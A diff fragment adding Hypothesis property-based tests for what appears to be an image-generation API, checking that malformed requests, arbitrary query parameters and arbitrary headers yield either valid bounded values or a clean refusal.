+    answer = free.request("POST", IMAGES, [*usual, (name, value)], b'{"prompt":"otter","n":0}')
+    refused(answer, answer.status, answer.error["param"])
+    assert 400 <= answer.status < 500
+
+
+@given(st.dictionaries(st.sampled_from(["limit", "after", "status"]) | st.text(), st.text()))
+@settings(deadline=None)
+def test_whatever_a_query_holds_it_is_a_page_or_a_refusal(query: dict[str, str]) -> None:
+    with suppress(ImagegenError):
+        assert 1 <= read_page(query).limit <= 100
+
+
+@given(st.dictionaries(st.sampled_from(["Idempotency-Key", "x-stainless-retry-count", "Prefer"]), st.text()))
+@settings(deadline=None)
+def test_whatever_headers_hold_they_are_an_attempt_or_a_refusal(headers: dict[str, str]) -> None:
+    read_preference(headers)
+    with suppress(ImagegenError):
+        attempt = read_attempt(headers)
+        assert attempt.retry is None or 0 <= attempt.retry < 1000
